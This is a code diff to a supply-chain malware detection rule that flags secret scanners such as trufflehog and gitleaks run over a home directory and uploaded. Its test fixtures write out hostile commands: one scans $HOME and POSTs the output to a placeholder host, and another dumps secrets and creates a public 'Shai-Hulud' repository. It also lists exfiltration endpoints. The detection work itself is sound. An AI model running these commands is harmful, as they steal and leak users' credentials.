@@ -39,32 +39,51 @@ export const supplyChain: RuleSet = {
       id: id('scanner-misuse'),
       severity: 'critical',
       why: 'Fetches a secret scanner, runs it over the machine and uploads what it finds.',
-      when: all(
-        is(
-          ['trufflehog', 'gitleaks', 'noseyparker'],
-          /(?:trufflehog|gitleaks|noseyparker)["',\s]{1,4}(?:filesystem|dir|detect|scan)[^\n]{0,80}(?:\/|~|home|HOME|homedir)/i,
-        ),
-        any(
+      when: any(
+        all(
           is(
-            [
-              'api.github.com/user/repos',
-              'createforauthenticateduser',
-              '/user/repos',
-              'webhook.site',
-              'shai-hulud',
-              'createorupdatefilecontents',
-            ],
-            null,
+            ['trufflehog', 'gitleaks', 'noseyparker'],
+            /(?:trufflehog|gitleaks|noseyparker)["',\s]{1,4}(?:filesystem|dir|detect|scan)[^\n]{0,80}(?:\/|~|home|HOME|homedir)/i,
           ),
+          any(
+            is(
+              [
+                'api.github.com/user/repos',
+                'createforauthenticateduser',
+                '/user/repos',
+                'webhook.site',
+                'shai-hulud',
+                'createorupdatefilecontents',
+              ],
+              null,
+            ),
+          ),
+          any('exec', 'send'),
         ),
-        any('exec', 'send'),
+        near(
+          8,
+          is(
+            ['trufflehog', 'gitleaks', 'noseyparker'],
+            /(?:trufflehog|gitleaks|noseyparker)\s+(?:filesystem|dir|detect|scan)[^\n]{0,80}?(?:\s\/(?:\s|$)|\s["']?~|\$\{?HOME\b|homedir\(|\/home\b|\/Users\b)/,
+          ),
+          is(['/releases/download'], /(?<=(?:trufflehog|gitleaks|noseyparker)[^\n]{0,60})\/releases\/download/),
+          'send',
+        ),
       ),
       matches: [
+        sh(
+          'wget -qO- https://github.com/gitleaks/gitleaks/releases/download/v8/g.tgz | tar xz\n./gitleaks detect --no-git -s "$HOME" -r /tmp/o.json\ncurl -s -X POST -F "f=@/tmp/o.json" https://x.example.invalid',
+        ),
         js(
           "execSync('trufflehog filesystem / --json > /tmp/t.json')\nawait octokit.repos.createForAuthenticatedUser({ name: 'Shai-Hulud', private: false })",
         ),
       ],
-      misses: [sh('trufflehog filesystem ./src --fail')],
+      misses: [
+        sh(
+          'curl -sSfL https://github.com/gitleaks/gitleaks/releases/download/v8/g.tgz | tar xz\n./gitleaks detect --source . --redact',
+        ),
+        sh('trufflehog filesystem ./src --fail'),
+      ],
     },
     {
       id: id('workflow-planted'),
